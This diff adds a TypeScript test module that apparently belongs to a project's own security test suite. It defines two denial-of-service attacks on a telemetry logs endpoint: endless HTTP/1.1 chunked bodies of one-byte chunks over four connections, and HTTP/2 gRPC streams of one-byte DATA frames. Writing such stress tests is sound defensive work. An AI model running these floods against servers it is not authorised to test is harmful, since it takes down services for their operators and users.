@@ -1,0 +1,60 @@
+import { exportPath, signalTraits } from "../../../src/domain/signal.ts";
+import { type Attack, hold, openHttp2, openTcp, writeSlowly } from "./attack.ts";
+
+// Bodies in pieces that cost more to keep than they hold.
+
+const connections = 4;
+/** The whole of an attack: 2.4 million pieces, whose body is within the size of one request. */
+const piecesPerConnection = 600_000;
+const piecesPerWrite = 10_000;
+
+/** Issue 16, 6: chunks of one byte over HTTP/1.1, in a body that never ends. */
+export const oneByteChunks: Attack = async (target) => {
+  const head = `POST ${signalTraits.logs.httpPath} HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/x-protobuf\r\ntransfer-encoding: chunked\r\n\r\n`;
+  const pieces = Buffer.from("1\r\nx\r\n".repeat(piecesPerWrite));
+  const one = async () => {
+    const socket = openTcp(target);
+    socket.resume();
+    socket.write(head);
+    for (let sent = 0; sent < piecesPerConnection; sent += piecesPerWrite) {
+      if (!(await writeSlowly(socket, pieces))) break;
+    }
+    // The system may hold megabytes that the server has not read yet.
+    await hold(target, target.holdMs);
+    socket.destroy();
+  };
+  await Promise.all(Array.from({ length: connections }, one));
+};
+
+/** Issue 16, 6: DATA frames of one byte over HTTP/2. Node's client makes one of each write. */
+export const oneByteFrames: Attack = async (target) => {
+  const one = async () => {
+    const session = openHttp2(target);
+    const stream = session.request({
+      ":method": "POST",
+      ":path": exportPath("logs"),
+      "content-type": "application/grpc",
+      te: "trailers",
+    });
+    stream.on("error", () => {});
+    stream.resume();
+    stream.write(Buffer.of(0, 0, 0x3f, 0xff, 0xff));
+    const piece = Buffer.of(0x78);
+    for (let sent = 0; sent < piecesPerConnection / 4 && !stream.destroyed; sent++) {
+      if (!(await writeOne(stream, piece))) break;
+    }
+    session.destroy();
+  };
+  await Promise.all(Array.from({ length: connections }, one));
+};
+
+function writeOne(stream: NodeJS.WritableStream, piece: Uint8Array): Promise<boolean> {
+  return new Promise((resolve) => {
+    const close = () => resolve(false);
+    stream.once("close", close);
+    stream.write(piece, (error) => {
+      stream.off("close", close);
+      resolve(!error);
+    });
+  });
+}
